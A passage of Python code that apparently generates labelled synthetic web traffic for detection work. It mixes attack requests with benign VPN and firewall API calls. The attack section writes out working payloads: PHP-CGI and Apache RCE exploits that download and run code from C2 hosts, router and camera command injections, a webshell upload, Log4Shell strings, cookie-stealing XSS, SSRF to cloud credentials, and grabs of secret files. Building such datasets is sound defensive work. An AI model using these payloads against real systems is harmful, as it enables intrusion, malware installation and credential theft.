        o.add("php" if "eval" in p or "alfa" in p or "upl" in p or "/images/" in p else "rce", "webshell-probe", request(
            m, p, pick(["www.example.com", "203.0.113.100", "198.51.100.65:8080"], i),
            body=body, ctype=("application/x-www-form-urlencoded" if body is not None else None), k=k + i))
    o.add("php", "php-cgi-4577", request(
        "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input", "nas.example.org",
        body="<?php echo md5('cve-2024-4577'); system('whoami'); ?>", ctype="application/x-www-form-urlencoded", k=k))
    o.add("php", "php-cgi-4577", request(
        "POST", "/cgi-bin/php-cgi.exe?%ADd+cgi.force_redirect%3D0+%ADd+disable_functions%3D%22%22+%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
        "203.0.113.101", body="<?php system('powershell -c \"iwr http://%s/x.exe -OutFile C:/Windows/Temp/x.exe\"'); ?>" % pick(CNC, k),
        ctype="application/x-www-form-urlencoded", k=k + 1))
    o.add("php", "php-cgi-1823", request(
        "POST", "/cgi-bin/php?-d+allow_url_include%3Don+-d+safe_mode%3Doff+-d+suhosin.simulation%3Don+-d+disable_functions%3D%22%22+-d+open_basedir%3Dnone+-d+auto_prepend_file%3Dphp%3A%2F%2Finput+-n",
        "198.51.100.66", body="<?php system('cd /tmp;wget http://%s/php;perl php;rm -rf php*'); ?>" % pick(CNC, k + 2),
        ctype="application/x-www-form-urlencoded", k=k + 2))
    # Apache 2.4.49/50 traversal and CGI RCE (common on embedded Apache)
    o.add("lfi", "apache-41773", request("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "198.51.100.67", k=k))
    o.add("lfi", "apache-42013", request("GET", "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd", "198.51.100.68", k=k + 1))
    o.add("rce", "apache-41773", request(
        "POST", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", "198.51.100.69",
        body="echo Content-Type: text/plain; echo; " + dropper(k + 3, "apache"), ctype="text/plain", k=k))
    o.add("rce", "apache-42013", request(
        "POST", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh", "203.0.113.102",
        body="X=$(curl -s http://%s/a.sh | sh)" % pick(CNC, k + 4), ctype="application/x-www-form-urlencoded", k=k + 1))
    # --- configuration and secret grabs
    grabs = ["/.env", "/api/.env", "/laravel/.env", "/backend/.env.production", "/config.json", "/.git/config",
             "/.aws/credentials", "/wp-config.php.bak", "/backup.sql", "/.vscode/sftp.json", "/config/database.yml",
             "/admin/config.php.save", "/.ssh/id_rsa", "/etc/passwd", "/cgi-bin/ExportSettings.sh",
             "/.docker/config.json", "/server.key", "/.svn/wc.db", "/db/backup.tar.gz",
             "/cgi-bin/../../../../../../etc/shadow", "/static/../../../../etc/passwd", "/..%2f..%2f..%2f..%2fetc%2fpasswd",
             "/conf/config.ini.bak"]
    for i, p in enumerate(grabs):
        o.add("lfi", "config-grab", request("GET", p, pick(["203.0.113.103", "vpn.example.com", "198.51.100.70:8080", "cam.example.net", "nas.example.org"], i),
                                            ua=pick(["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Safari/537.36",
                                                     "python-requests/2.31.0", "Go-http-client/1.1", "curl/8.4.0"], i), k=k + i))
    # traversal for credentials in embedded web servers' file parameters
    trav = [
        ("/cgi-bin/download.cgi?file=../../../../etc/shadow", "198.51.100.71"),
        ("/cgi-bin/luci/;stok=/../../../../etc/passwd", "198.51.100.72"),
        ("/web/cgi-bin/hi3510/param.cgi?cmd=getuser&-file=../../../../etc/passwd", "198.51.100.73"),
        ("/cgi-bin/viewer/video.jpg?resolution=../../../../../../etc/passwd", "198.51.100.74"),
        ("/get_file.cgi?file=/etc/shadow", "198.51.100.75"),
        ("/mnt/mtd/../../../etc/passwd", "198.51.100.76"),
        ("/cgi-bin/readfile.cgi?query=ADSL&path=%2Fetc%2Fconfig%2Fpasswd", "198.51.100.77"),
        ("/..\\..\\..\\..\\..\\..\\windows\\win.ini", "198.51.100.78"),
        ("/file=../../../../../../../../mnt/flash/config/user.ini", "198.51.100.79"),
        ("/cgi-bin/webproc?getpage=/etc/passwd&var:page=deviceinfo", "198.51.100.80"),
    ]
    for i, (p, h) in enumerate(trav):
        o.add("lfi", "embedded-traversal", request("GET", p, h, k=k + i))
    # --- scanners as honeypots record them
    o.add("scanner", "nmap-nse", request(
        "GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "203.0.113.104",
        ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", k=k))
    o.add("scanner", "nikto", request(
        "GET", "/cgi-bin/test-cgi", "203.0.113.105", ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000816)", k=k))
    o.add("scanner", "masscan", request("GET", "/", "203.0.113.106", ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)", k=k))
    o.add("scanner", "sqlmap", request(
        "GET", "/cgi-bin/login.cgi?username=admin&password=1%27%20AND%201%3D1--%20", "203.0.113.107",
        ua="sqlmap/1.7.10#stable (https://sqlmap.org)", k=k))
    o.add("scanner", "zgrab-hnap", request("GET", "/HNAP1/", "203.0.113.108", ua="Mozilla/5.0 zgrab/0.x", k=k))
    o.add("lfi", "fortios-fgt-lang", request(
        "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/", "203.0.113.109",
        ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.0.0 Safari/537.36", k=k))
    bd = BOUNDARIES[0]
    o.add("php", "wp-file-manager", request(
        "POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "www.example.com",
        body=multipart([('name="cmd"', "upload", []), ('name="target"', "l1_Lw", []),
                        ('name="upload[]"; filename="x.php"', "<?php system($_GET['cmd']); ?>", ["Content-Type: application/x-php"])], bd),
        ctype="multipart/form-data; boundary=" + bd, k=k))
    # --- Mozi/Mirai in odd places: a DVR's NTP form, a camera's SMTP test, an ONVIF set
    o.add("rce", "dvr-ntp-form", request(
        "POST", "/cgi-bin/set_ntp.cgi", "198.51.100.81",
        body="ntp_enable=1&ntp_server=" + quote_plus("pool.ntp.org$(" + dropper(k + 5, "dvr") + ")") + "&timezone=8",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "camera-smtp-test", request(
        "POST", "/cgi-bin/smtp_test.cgi", "198.51.100.82",
        body="smtp_server=" + quote_plus("mail.example.com;" + dropper(k + 6, "cam")) + "&smtp_port=25&smtp_user=cam&smtp_to=ops%40example.com",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "onvif-hostname", request(
        "POST", "/onvif/device_service", "198.51.100.83",
        body=('<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope">'
              '<s:Body><SetHostname xmlns="http://www.onvif.org/ver10/device/wsdl"><Name>$(%s)</Name></SetHostname></s:Body></s:Envelope>'
              % dropper(k + 7, "onvif")),
        ctype="application/soap+xml; charset=utf-8", k=k))
    o.add("rce", "router-ddns-form", request(
        "POST", "/goform/SetDDNSCfg", "198.51.100.84",
        body="ddnsEn=1&ddnsServiceName=dyndns&ddnsServiceUser=a&ddnsServicePwd=b&ddnsServiceDomain=" + quote_plus("x.example.net;" + dropper(k + 8, "ddns")),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "router-nslookup", request(
        "POST", "/cgi-bin/diagnostic.cgi", "198.51.100.85",
        body="action=nslookup&host=" + quote_plus("example.com|" + dropper(k + 9, "diag")) + "&dns_server=",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "router-traceroute", request(
        "GET", "/cgi-bin/traceroute.cgi?target=" + quote("8.8.8.8`" + dropper(k + 10, "diag") + "`", safe="") + "&hops=30",
        "198.51.100.86", k=k))
    o.add("rce", "router-ping-ifs", request(
        "GET", "/diag_ping.cgi?ping_ip=127.0.0.1%0a" + ifs("wget http://%s/p -O /tmp/p") % pick(CNC, k + 11) + "%0a&ping_count=1",
        "198.51.100.87", k=k))
    o.add("rce", "router-hex-echo", request(
        "POST", "/cgi-bin/ping.cgi", "198.51.100.88",
        body="ip=" + quote_plus(";echo -e '\\x77\\x67\\x65\\x74\\x20\\x68\\x74\\x74\\x70' > /tmp/.w; sh /tmp/.w;"),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "wifi-ssid-inj", request(
        "POST", "/goform/wirelessBasic", "198.51.100.89",
        body="ssid=" + quote_plus("Home$(" + dropper(k + 12, "ssid") + ")") + "&channel=6&security=wpa2&wpapsk=12345678",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "hostname-inj", request(
        "POST", "/cgi-bin/system_hostname.cgi", "198.51.100.90",
        body="hostname=" + quote_plus("router`" + dropper(k + 13, "host") + "`"), ctype="application/x-www-form-urlencoded", k=k))
    # crafted cookies
    o.add("lfi", "cookie-lang-traversal", request(
        "GET", "/index.htm", "198.51.100.91", headers=[["Cookie", "lang=../../../../../../etc/passwd%00"]], k=k))
    o.add("rce", "cookie-cmd", request(
        "GET", "/cgi-bin/status.cgi", "198.51.100.92",
        headers=[["Cookie", "sessionid=`" + dropper(k + 14, "cookie").replace(";", "&&") + "`"]], k=k))
    o.add("sqli", "cookie-sqli", request(
        "GET", "/admin/index.php", "198.51.100.93",
        headers=[["Cookie", "PHPSESSID=4ca5; uid=1' UNION SELECT username,password FROM users-- -"]], k=k))
    o.add("xss", "dvr-login-xss", request(
        "GET", "/login.html?redirect=%22%3E%3Cscript%3Efetch(%27//" + pick(CNC, k) + "/c?%27%2Bdocument.cookie)%3C/script%3E",
        "198.51.100.94", k=k))
    o.add("sqli", "nas-login-sqli", request(
        "POST", "/cgi-bin/login.cgi", "198.51.100.95",
        body="user=admin%27+OR+%271%27%3D%271&pwd=x&remember=0", ctype="application/x-www-form-urlencoded", k=k))
    o.add("ssrf", "camera-cloud-url", request(
        "POST", "/cgi-bin/cloud_config.cgi", "198.51.100.96",
        body="server_url=" + quote_plus("http://169.254.169.254/latest/meta-data/iam/security-credentials/") + "&enable=1",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("xxe", "onvif-xxe", request(
        "POST", "/onvif/device_service", "198.51.100.97",
        body=('<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope">'
              '<s:Body><GetDeviceInformation xmlns="http://www.onvif.org/ver10/device/wsdl">&x;</GetDeviceInformation></s:Body></s:Envelope>'),
        ctype="application/soap+xml", k=k))
    o.add("xxe", "tr069-xxe", request(
        "POST", "/cwmp", "acs.example.net:7547",
        body=('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % e SYSTEM "http://' + pick(CNC, k) + '/e.dtd"> %e;]>'
              '<soap-env:Envelope xmlns:soap-env="http://schemas.xmlsoap.org/soap/envelope/"><soap-env:Body/></soap-env:Envelope>'),
        ctype="text/xml", k=k))
    o.add("rce", "tr069-connreq-inj", request(
        "POST", "/tr069", "198.51.100.98:7547",
        headers=[["SOAPAction", "urn:dslforum-org:cwmp-1-0#SetParameterValues"]],
        body=('<soap-env:Envelope xmlns:soap-env="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-0">'
              '<soap-env:Body><cwmp:SetParameterValues><ParameterList><ParameterValueStruct><Name>InternetGatewayDevice.Time.NTPServer1</Name>'
              '<Value>pool.ntp.org;%s</Value></ParameterValueStruct></ParameterList><ParameterKey>x</ParameterKey></cwmp:SetParameterValues>'
              '</soap-env:Body></soap-env:Envelope>' % dropper(k + 15, "tr069")),
        ctype="text/xml", k=k))
    o.add("ssti", "mgmt-ssti", request(
        "POST", "/api/v1/notifications/template/preview", "nms.example.com",
        body=jdump({"subject": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}", "body": "x"}),
        ctype="application/json", k=k))
    o.add("ssti", "freemarker-ssti", request(
        "POST", "/admin/email-template", "nms.example.com",
        body=form([("name", "alert"), ("template", '<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }')]),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("java", "log4shell-ua-vpn", request(
        "GET", "/remote/login?lang=en", "vpn.example.com", ua="${jndi:ldap://%s:1389/Basic/Command/Base64/%s}" % (pick(CNC, k), b64(dropper(k, "l4j"))), k=k))
    o.add("java", "log4shell-xff", request(
        "GET", "/", "203.0.113.110", headers=[["X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s:1099/a}" % pick(CNC, k + 1)]], k=k))


# ============================================================================= benign

USERS = ["jdoe", "m.schneider", "akira.tanaka", "priya.n", "o.okafor", "l.martin", "svc-backup", "e.kowalski"]
PASSWORDS = ["Summer2024!", "c0rrect-h0rse-Battery", "P@ssw0rd#42", "Tr0ub4dor&3", "m4ple;Syrup!", "Zx9$q&Lm!2",
             "W1nter is coming (2024)", "j'aime_les_crêpes", "50% off <sale>", "Hund-Katze-Maus#7"]
GP_CLIENT = "PAN GlobalProtect"
FORTI_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) FortiClient/7.2.4.0972"


def benign_vpn(o):
    k = o.k
    # --- GlobalProtect client
    for i in range(4):
        u = pick(USERS, k + i)
        gw = pick(["gp.example.com", "vpn-eu.example.com", "vpn-us.example.com", "gp2.example.com"], i)
        o.add("benign", "globalprotect", request(
            "POST", "/global-protect/prelogin.esp?tmp=tmp&kerberos-support=yes&ipv6-support=yes&clientVer=4100&clientos=Windows",
            gw, ua=GP_CLIENT, body="", ctype="application/x-www-form-urlencoded", k=i))
        o.add("benign", "globalprotect", request(
            "POST", "/global-protect/getconfig.esp", gw, ua=GP_CLIENT,
            body=form([("jnlpReady", "jnlpReady"), ("ok", "Login"), ("direct", "yes"), ("clientVer", "4100"),
                       ("prot", "https:"), ("server", gw), ("inputStr", ""), ("computer", "LAPTOP-%04X" % (0x3A1F + i)),
                       ("os-version", "Microsoft Windows 11 Pro , 64-bit"), ("clientos", "Windows"), ("user", u),
                       ("passwd", pick(PASSWORDS, k + i)), ("portal-userauthcookie", "empty"), ("portal-prelogonuserauthcookie", "empty"),
                       ("host-id", "4f1c9e7a-2b3d-4e5f-8a9b-0c1d2e3f4a5b"), ("ipv6-support", "yes")]),
            ctype="application/x-www-form-urlencoded", k=i))
    o.add("benign", "globalprotect", request(
        "POST", "/ssl-vpn/login.esp", "gp.example.com", ua=GP_CLIENT,
        body=form([("prot", "https:"), ("server", "gp.example.com"), ("inputStr", ""), ("jnlpReady", "jnlpReady"), ("user", "jdoe"),
                   ("passwd", "Summer2024!"), ("computer", "LAPTOP-3A1F"), ("ok", "Login"), ("direct", "yes"), ("clientVer", "4100"),
                   ("os-version", "Apple Mac OS X 14.4.1"), ("clientos", "Mac"), ("portal-userauthcookie", "Ss2pK0k9vGqv8"),
                   ("portal-prelogonuserauthcookie", "empty"), ("preferred-ip", "10.64.3.17"), ("ipv6-support", "yes")]),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "globalprotect", request(
        "POST", "/ssl-vpn/hipreportcheck.esp", "gp.example.com", ua=GP_CLIENT,
        headers=[["Cookie", "SESSID=8d2a1e3f4b5c6d7e8f9a0b1c2d3e4f5a"]],
        body=form([("client-role", "global-protect-full"), ("authcookie", "0f8e3c9a7b6d5e4f"), ("client-ip", "10.64.3.17"),
                   ("computer", "LAPTOP-3A1F"), ("md5", "9a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d"), ("portal", "GP-Portal"), ("user", "jdoe"),
                   ("domain", "(empty_domain)")]),
        ctype="application/x-www-form-urlencoded", k=k))
    hip = ('<hip-report name="hip-report"><md5-sum>9a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d</md5-sum><user-name>jdoe</user-name>'
           '<domain>CORP</domain><host-name>LAPTOP-3A1F</host-name><host-id>4f1c9e7a-2b3d-4e5f-8a9b-0c1d2e3f4a5b</host-id>'
           '<ip-address>10.64.3.17</ip-address><generate-time>05/02/2024 09:14:07</generate-time><hip-report-version>4</hip-report-version>'
           '<categories><entry name="host-info"><client-version>6.2.1-56</client-version><os>Microsoft Windows 11 Pro , 64-bit</os>'
           '<os-vendor>Microsoft</os-vendor><domain>corp.example.com</domain><host-name>LAPTOP-3A1F</host-name></entry>'
           '<entry name="anti-malware"><list><entry><ProductInfo><Prod vendor="Microsoft Corporation" name="Microsoft Defender" '
           'version="4.18.24030.9" defver="1.409.301.0" engver="1.1.24030.4" datemon="5" dateday="2" dateyear="2024" prodType="3" osType="1"/>'
           '<real-time-protection>yes</real-time-protection><last-full-scan-time>n/a</last-full-scan-time></ProductInfo></entry></list></entry>'
           '<entry name="disk-encryption"><list><entry><ProductInfo><Prod vendor="Microsoft Corporation" name="BitLocker Drive Encryption" version="10.0.22621.1"/>'
           '<drives><entry><drive-name>C:\\</drive-name><enc-state>full</enc-state></entry></drives></ProductInfo></entry></list></entry>'
           '<entry name="patch-management"><list/><missing-patches/></entry></categories></hip-report>')
    o.add("benign", "globalprotect", request(
        "POST", "/ssl-vpn/hipreport.esp", "gp.example.com", ua=GP_CLIENT,
        headers=[["Cookie", "SESSID=8d2a1e3f4b5c6d7e8f9a0b1c2d3e4f5a"]],
        body=form([("authcookie", "0f8e3c9a7b6d5e4f"), ("md5", "9a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d"), ("client-ip", "10.64.3.17"),
                   ("client-role", "global-protect-full"), ("computer", "LAPTOP-3A1F"), ("portal", "GP-Portal"), ("user", "jdoe"),
                   ("report", hip)]),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "globalprotect", request("GET", "/global-protect/getmsg.esp?version=3", "gp.example.com", ua=GP_CLIENT, k=k))
    o.add("benign", "globalprotect", request("GET", "/global-protect/portal/images/bg.png", "gp.example.com", bot=False, k=k))
    # --- PAN-OS XML API automation
    key = "LUFRPT1UcFZ6WHd6dDh4bHNYbWl6N2xhUW5zQzlFbz0=Q2hhbmdlZA=="
    for i, cmd in enumerate(["<show><system><info></info></system></show>", "<show><session><info></info></session></show>",
                             "<show><running><resource-monitor><minute><last>5</last></minute></resource-monitor></running></show>",
                             "<request><system><software><check></check></software></system></request>"]):
        o.add("benign", "panos-api", request(
            "GET", "/api/?type=op&cmd=" + quote(cmd, safe="") + "&key=" + quote(key, safe=""), "fw-mgmt.example.com",
            ua=pick(["python-requests/2.31.0", "pan-python/0.17.0", "Ansible httpget", "Terraform/1.7.5 terraform-provider-panos/1.11.1"], i), k=i))
    o.add("benign", "panos-api", request(
        "POST", "/api/", "fw-mgmt.example.com", ua="pan-os-python/1.12.0",
        body=form([("type", "config"), ("action", "set"), ("key", key),
                   ("xpath", "/config/devices/entry[@name='localhost.localdomain']/vsys/entry[@name='vsys1']/address/entry[@name='srv-web-01']"),
                   ("element", "<ip-netmask>10.20.30.40/32</ip-netmask><description>Web server (prod) - owner: web team</description><tag><member>prod</member></tag>")]),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "panos-api", request(
        "GET", "/restapi/v10.2/Policies/SecurityRules?location=vsys&vsys=vsys1&name=allow-dns", "fw-mgmt.example.com",
        headers=[["X-PAN-KEY", key]], ua="python-requests/2.31.0", k=k))
    # --- FortiGate SSL-VPN portal and REST API
    for i in range(3):
        u = pick(USERS, k + i + 2)
        o.add("benign", "fortigate-sslvpn", request(
            "GET", "/remote/login?lang=en", pick(["vpn.example.com", "remote.example.org:10443", "vpn.example.net:4443"], i), bot=False, k=i))
        o.add("benign", "fortigate-sslvpn", request(
            "POST", "/remote/logincheck", pick(["vpn.example.com", "remote.example.org:10443", "vpn.example.net:4443"], i), bot=False,
            headers=[["Referer", "https://vpn.example.com/remote/login?lang=en"], ["Origin", "https://vpn.example.com"]],
            body=form([("ajax", "1"), ("username", u), ("realm", ""), ("credential", pick(PASSWORDS, k + i + 3))]),
            ctype="text/plain;charset=UTF-8", k=i))
    o.add("benign", "fortigate-sslvpn", request(
        "GET", "/remote/fortisslvpn_xml", "vpn.example.com", ua=FORTI_UA, headers=[["Cookie", "SVPNCOOKIE=SHxUj7nM0x%2F3mQ9e"]], k=k))
    o.add("benign", "fortigate-sslvpn", request(
        "GET", "/remote/saml/start?redirect=1", "vpn.example.com", ua=FORTI_UA, k=k))
    o.add("benign", "fortigate-sslvpn", request(
        "GET", "/sslvpn/portal.html", "vpn.example.com", bot=False, headers=[["Cookie", "SVPNCOOKIE=SHxUj7nM0x%2F3mQ9e"]], k=k))
    tok = "Nf5q1Gk8rG3qQm0ytN8xkcx7H3Hnp9"
    fgt = [
        ("GET", "/api/v2/monitor/system/status", None),
        ("GET", "/api/v2/monitor/system/resource/usage?resource=cpu&interval=1-min", None),
        ("GET", "/api/v2/monitor/vpn/ipsec", None),
        ("GET", "/api/v2/monitor/vpn/ssl", None),
        ("GET", "/api/v2/cmdb/firewall/policy?vdom=root&format=policyid|name|srcintf|dstintf|action", None),
        ("POST", "/api/v2/cmdb/firewall/address?vdom=root", {"name": "srv-web01", "subnet": "10.20.30.40 255.255.255.255", "comment": "web server; prod (ticket NET-1423)"}),
        ("PUT", "/api/v2/cmdb/firewall/addrgrp/grp-web?vdom=root", {"member": [{"name": "srv-web01"}, {"name": "srv-web02"}]}),
        ("POST", "/api/v2/monitor/system/config/backup?scope=global", None),
        ("GET", "/api/v2/monitor/license/status", None),
        ("GET", "/api/v2/log/memory/event/system/raw?rows=50&filter=logdesc=@admin", None),
    ]
    for i, (m, p, b) in enumerate(fgt):
        o.add("benign", "fortigate-rest", request(
            m, p, pick(["fw01.example.com", "10.0.0.1", "fgt-hq.example.net:8443"], i),
            headers=[["Authorization", "Bearer " + tok]], body=jdump(b) if b is not None else ("" if m == "POST" else None),
            ctype="application/json", ua=pick(["python-requests/2.31.0", "Zabbix", "ansible-httpapi", "Go-http-client/1.1"], i), accept="application/json", k=i))
    # --- Ivanti Connect Secure: browser logins, SAML, admin REST with an API key
    for i in range(3):
        o.add("benign", "ivanti-ics", request(
            "POST", "/dana-na/auth/url_default/login.cgi", "vpn.example.org", bot=False,
            headers=[["Referer", "https://vpn.example.org/dana-na/auth/url_default/welcome.cgi"], ["Cookie", "DSSignInURL=/; lastRealm=Users"]],
            body=form([("tz_offset", pick(["60", "-300", "540"], i)), ("clientMAC", ""), ("username", pick(USERS, k + i)),
                       ("password", pick(PASSWORDS, k + i + 5)), ("realm", "Users"), ("btnSubmit", "Sign In")]),
            ctype="application/x-www-form-urlencoded", k=i))
    o.add("benign", "ivanti-ics", request("GET", "/dana-na/auth/url_default/welcome.cgi", "vpn.example.org", bot=False, k=k))
    o.add("benign", "ivanti-ics", request(
        "POST", "/dana-na/auth/saml-consumer.cgi", "vpn.example.org", bot=False,
        headers=[["Origin", "https://login.example-idp.com"], ["Referer", "https://login.example-idp.com/"]],
        body=form([("SAMLResponse", b64('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_8f1e" Version="2.0" '
                                          'IssueInstant="2024-05-02T09:15:00Z" Destination="https://vpn.example.org/dana-na/auth/saml-consumer.cgi">'
                                          '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://login.example-idp.com/</saml:Issuer>'
                                          '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>')),
                   ("RelayState", "state_3a9e1f5c7b")]),
        ctype="application/x-www-form-urlencoded", k=k))
    auth = "Basic " + b64("Y2xpZW50LWFwaS1rZXktN2Q5ZjE=:")
    for i, p in enumerate(["/api/v1/system/system-information", "/api/v1/system/active-users?number_of_pages=1&page_size=50",
                           "/api/v1/configuration/users/user-realms/realm/Users", "/api/v1/system/maintenance/archiving/cloud-server-test-connection"]):
        m = "POST" if "test-connection" in p else "GET"
        body = jdump({"type": "scp", "txtServer": "backup.example.com", "txtPath": "/srv/ics-archives", "txtUser": "icsbackup"}) if m == "POST" else None
        o.add("benign", "ivanti-ics-rest", request(m, p, "vpn.example.org", headers=[["Authorization", auth]], body=body,
                                                   ctype="application/json", ua="python-requests/2.31.0", accept="application/json", k=i))
    # --- Citrix NetScaler Gateway / StoreFront / NITRO
    o.add("benign", "citrix-gateway", request("GET", "/logon/LogonPoint/tmindex.html", "gw.example.com", bot=False, k=k))
    o.add("benign", "citrix-gateway", request(
        "POST", "/p/u/getAuthenticationRequirements.do", "gw.example.com", bot=False,
        headers=[["X-Citrix-Am-CredentialTypes", "none, username, domain, password, newpassword, passcode, savecredentials, textcredential, webview, negotiate"],
                 ["X-Citrix-Am-LabelTypes", "none, plain, heading, information, warning, error, confirmation, image, nsg-epa, nsg_confirmation"]],
        body="", ctype="application/x-www-form-urlencoded", k=k))
    for i in range(3):
        o.add("benign", "citrix-gateway", request(
            "POST", "/p/u/doAuthentication.do", "gw.example.com", bot=False,
            headers=[["X-Citrix-Am-CredentialTypes", "none, username, domain, password, newpassword, passcode, savecredentials"]],
            body=form([("login", pick(USERS, k + i)), ("passwd", pick(PASSWORDS, k + i + 1)), ("savecredentials", "false"),
                       ("nsg-x1-logon-button", "Log On"), ("StateContext", "bG9naW5zY2hlbWE9ZGVmYXVsdA==")]),
            ctype="application/x-www-form-urlencoded", k=i))
    o.add("benign", "citrix-gateway", request(
        "POST", "/cgi/login", "gw.example.com", bot=False,
        body=form([("login", "jdoe"), ("passwd", "Tr0ub4dor&3"), ("passwd1", "482913")]), ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "citrix-storefront", request(
        "POST", "/Citrix/StoreWeb/Resources/List", "gw.example.com", bot=False,
        headers=[["Csrf-Token", "3F9A1C7E5B2D"], ["X-Citrix-IsUsingHTTPS", "Yes"], ["Cookie", "CtxsAuthId=8E2F; NSC_AAAC=xyz"]],
        body="format=json&resourceDetails=Default", ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("benign", "citrix-storefront", request(
        "GET", "/Citrix/StoreWeb/Resources/LaunchIca/UmVzb3VyY2VzLk9mZmljZQ--.ica?CsrfToken=3F9A1C7E5B2D&IsUsingHttps=Yes&launchId=1714641309",
        "gw.example.com", bot=False, k=k))
    nitro_h = [["X-NITRO-USER", "nsapi"], ["X-NITRO-PASS", "Nitr0#Api-2024"]]
    for i, (m, p, b) in enumerate([
            ("GET", "/nitro/v1/config/lbvserver?attrs=name,curstate,effectivestate", None),
            ("GET", "/nitro/v1/stat/lbvserver/vs_web_443", None),
            ("POST", "/nitro/v1/config/server", {"server": {"name": "web03", "ipaddress": "10.0.1.13", "comment": "added by CHG0041234"}}),
            ("PUT", "/nitro/v1/config/service", {"service": {"name": "svc_web03_80", "maxclient": "500"}}),
            ("POST", "/nitro/v1/config/server?action=disable", {"server": {"name": "web02", "delay": 30, "graceful": "YES"}})]):
        o.add("benign", "citrix-nitro", request(m, p, "adc.example.com", headers=nitro_h, body=jdump(b) if b else None,
                                                ctype="application/json", ua="python-requests/2.31.0", accept="application/json", k=i))
    # --- Cisco AnyConnect, ASA, IOS XE RESTCONF
    ac_ua = "AnyConnect Windows 4.10.07073"
    o.add("benign", "anyconnect", request(
        "POST", "/", "asa.example.com", ua=ac_ua, headers=[["X-Transcend-Version", "1"], ["X-Aggregate-Auth", "1"]],
        body='<?xml version="1.0" encoding="UTF-8"?>\n<config-auth client="vpn" type="init" aggregate-auth-version="2">'
             '<version who="vpn">4.10.07073</version><device-id computer-name="LAPTOP-3A1F" device-type="LENOVO 20XW" '
             'platform-version="10.0.22631  #1" unique-id="E2A5F0C1D9B84F3A" unique-id-global="7C1B">win</device-id>'
             '<mac-address-list><mac-address public-interface="true">a4-bb-6d-11-22-33</mac-address></mac-address-list>'
             '<group-select>Employees</group-select><group-access>https://asa.example.com/employees</group-access>'
             '<capabilities><auth-method>single-sign-on-v2</auth-method><auth-method>multiple-cert</auth-method></capabilities></config-auth>',
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "anyconnect", request(
        "POST", "/", "asa.example.com", ua=ac_ua, headers=[["X-Transcend-Version", "1"], ["X-Aggregate-Auth", "1"]],
        body='<?xml version="1.0" encoding="UTF-8"?>\n<config-auth client="vpn" type="auth-reply" aggregate-auth-version="2">'
             '<version who="vpn">4.10.07073</version><device-id>win</device-id><session-token/><session-id/>'
             '<opaque is-for="sg"><tunnel-group>Employees</tunnel-group><aggauth-handle>168492345</aggauth-handle>'
             '<auth-method>single-sign-on-v2</auth-method><config-hash>1714641309812</config-hash></opaque>'
             '<auth><username>o.okafor</username><password>Zx9$q&amp;Lm!2</password></auth></config-auth>',
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "anyconnect", request("GET", "/CACHE/stc/profiles/employees_client_profile.xml", "asa.example.com", ua=ac_ua,
                                          headers=[["Cookie", "webvpn=1F3C@24576@F2A1@9C7E0B; webvpnc=bu:0&p:t&iu:1/&sh:B3F1"]], k=k))
    o.add("benign", "anyconnect", request("GET", "/+CSCOE+/logon.html?a0=15&a1=&a2=&a3=1", "asa.example.com", bot=False, k=k))
    o.add("benign", "anyconnect", request("GET", "/+CSCOT+/translation-table?type=mst&textdomain=AnyConnect&lang=en-us", "asa.example.com", ua=ac_ua, k=k))
    o.add("benign", "asa-rest", request(
        "POST", "/api/objects/networkobjects", "asa.example.com", headers=[["Authorization", "Basic " + b64("netops:Asa#Rest2024")]],
